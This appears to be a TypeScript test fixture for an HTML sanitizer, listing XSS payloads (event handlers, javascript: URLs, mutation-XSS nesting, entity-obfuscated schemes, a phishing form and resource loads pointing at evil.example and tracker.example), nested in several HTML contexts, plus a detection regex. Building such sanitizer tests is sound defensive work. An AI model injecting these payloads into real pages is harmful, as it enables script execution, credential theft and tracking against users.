const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<p style="position:fixed;inset:0" class="fixed" id="x" onclick="alert(1)">x</p>',
  '<object data="x"></object><embed src="x"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src="https://tracker.example/1.gif"><img src="//tracker.example/1.gif"><img src="data:image/svg+xml,x">',
  '<img src="/\t/tracker.example/1.gif"><img src="/\\tracker.example/1.gif">',
  '<a href="vbscript:msgbox(1)">x</a><a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<template><script>alert(1)</script></template><title><img src=x onerror=alert(1)></title>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style>',
  '<a href="https://example.org" target=_blank onfocus=alert(1) autofocus style="color:red">x</a>',
]

const places: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<p>${attack}</p>`,
  (attack) => `<ul><li>${attack}<li>${attack}</ul>`,
  (attack) => `<table><caption>${attack}</caption><tr><td>${attack}</table>`,
  (attack) => `<pre>\n\n<b>${attack}`,
  (attack) => `<div><object><h2><blockquote>${attack}</h2><p><em>${attack}</div>`,
]

/** 156 texts (STF-133, STF-298). */
export const hostileHtml: readonly string[] = places.flatMap((place) => attacks.map(place))

/** What no clean text has. */
export const harm =
  /<(?:script|svg|math|iframe|form|input|button|object|embed|base|meta|style|noscript|template|link|video|audio)|<[^>]*\son\w+=|<[^>]*(?:javascript|vbscript|data):|<[^>]*\s(?:style|class|id|target)=|<[^>]*(?:evil|tracker)/i
